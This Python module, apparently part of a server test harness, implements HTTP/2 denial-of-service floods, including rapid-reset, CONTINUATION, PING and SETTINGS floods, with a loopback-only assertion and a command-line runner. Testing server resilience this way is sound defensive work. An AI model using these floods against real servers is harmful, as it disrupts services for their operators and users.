"""HTTP/2 floods: frames that cost their sender nothing, as many as the other side takes.

Run as a module, one flood is a process of its own, at the lowest priority but one that still runs:
a real attacker has cores of its own.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import os
import struct
from collections.abc import Callable, Mapping
from ipaddress import ip_address

from harness.attacks.http2 import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    GOAWAY,
    HEADERS,
    PING,
    PREFACE,
    PRIORITY,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    Sent,
    frame,
    header_block,
)

_UNKNOWN = 0x42
_NUM_AT_ONCE = 500
_BLOCK = header_block("Update")
_OPEN = frame(HEADERS, END_HEADERS, 1, _BLOCK)
_CANCEL = struct.pack(">I", 8)
_PAUSE_S = 0.05


def _call(number: int, flags: int = 0) -> bytes:
    return frame(HEADERS, END_HEADERS | flags, 2 * number + 3, _BLOCK)


# Bytes sent once, and the frames of each number after them.
FLOODS: Mapping[str, tuple[bytes, Callable[[int], bytes]]] = {
    "resets": (b"", lambda n: _call(n) + frame(RST_STREAM, 0, 2 * n + 3, _CANCEL)),
    "calls": (b"", lambda n: _call(n, END_STREAM)),
    "resets_of_nothing": (_OPEN, lambda _: frame(RST_STREAM, 0, 1, _CANCEL)),
    "priority": (b"", lambda n: frame(PRIORITY, 0, 2 * n + 3, struct.pack(">IB", 0, 1))),
    "settings": (b"", lambda _: frame(SETTINGS, 0, 0, b"")),
    "ping": (b"", lambda n: frame(PING, 0, 0, struct.pack(">Q", n))),
    "window_update": (b"", lambda _: frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))),
    "continuation": (
        frame(HEADERS, 0, 1, _BLOCK),
        lambda _: frame(CONTINUATION, 0, 1, b""),
    ),
    "empty_data": (_OPEN, lambda _: frame(DATA, 0, 1, b"")),
    "goaway": (b"", lambda _: frame(GOAWAY, 0, 0, bytes(8))),
    "unknown": (b"", lambda _: frame(_UNKNOWN, 0, 0, b"x")),
}


async def flood(
    address: tuple[str, int],
    name: str,
    *,
    seconds: float,
    source: str,
    sent: Sent | None = None,
) -> Sent:
    """One connection at a time, opened again once the other side has closed it."""
    assert ip_address(address[0]).is_loopback, "attacks stay on this machine"
    sent = Sent() if sent is None else sent
    clock = asyncio.get_running_loop().time
    ends_at = clock() + seconds
    while clock() < ends_at:
        with contextlib.suppress(OSError, TimeoutError):
            reader, writer = await asyncio.open_connection(*address, local_addr=(source, 0))
            sent.num_connections += 1
            reading = asyncio.create_task(_read_away(reader))
            try:
                # The other side may take nothing more.
                async with asyncio.timeout_at(ends_at):
                    await _pour(writer, name, reading, sent)
            finally:
                sent.num_closed += clock() < ends_at
                reading.cancel()
                writer.transport.abort()
        await asyncio.sleep(_PAUSE_S)
    return sent


async def _pour(
    writer: asyncio.StreamWriter, name: str, reading: asyncio.Task[None], sent: Sent
) -> None:
    first, frames_of = FLOODS[name]
    writer.write(PREFACE + frame(SETTINGS, 0, 0, b"") + first)
    number = 0
    while not reading.done():
        data = b"".join(frames_of(number + one) for one in range(_NUM_AT_ONCE))
        number += _NUM_AT_ONCE
        writer.write(data)
        await writer.drain()
        sent.num_calls += _NUM_AT_ONCE
        sent.num_bytes += len(data)
        await asyncio.sleep(0)


async def _read_away(reader: asyncio.StreamReader) -> None:
    with contextlib.suppress(OSError):
        while await reader.read(64 * 1024):
            pass


async def _main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("name", choices=sorted(FLOODS))
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--seconds", type=float, required=True)
    parser.add_argument("--connections", type=int, default=1)
    parser.add_argument("--source", default="127.0.0.1")
    args = parser.parse_args()
    os.nice(10)
    address, seconds = ("127.0.0.1", args.port), args.seconds
    one = [
        flood(address, args.name, seconds=seconds, source=args.source)
        for _ in range(args.connections)
    ]
    await asyncio.gather(*one)


if __name__ == "__main__":
    asyncio.run(_main())
